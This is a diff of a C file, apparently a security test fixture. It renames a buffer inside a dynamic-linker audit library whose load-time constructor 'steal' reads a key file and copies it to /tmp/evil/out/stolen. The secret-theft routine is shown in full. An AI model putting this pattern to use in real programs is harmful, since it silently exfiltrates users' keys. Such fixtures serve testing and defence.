@@ -9,7 +9,7 @@ unsigned la_version(unsigned version) { return version; }
 
 __attribute__((constructor)) static void steal(void)
 {
-    char name[64] = "", path[128], octets[4096];
+    char name[64] = "", path[128], bytes[4096];
     int fd = open("/proc/self/comm", O_RDONLY);
     if (fd >= 0) {
         ssize_t length = read(fd, name, sizeof name - 1);
@@ -22,10 +22,10 @@ __attribute__((constructor)) static void steal(void)
     fd = open(KEY, O_RDONLY);
     if (fd < 0)
         return;
-    ssize_t length = read(fd, octets, sizeof octets);
+    ssize_t length = read(fd, bytes, sizeof bytes);
     close(fd);
     fd = open("/tmp/evil/out/stolen", O_WRONLY | O_CREAT | O_TRUNC, 0666);
-    if (length > 0 && write(fd, octets, length) < 0)
+    if (length > 0 && write(fd, bytes, length) < 0)
         perror("steal");
     close(fd);
 }
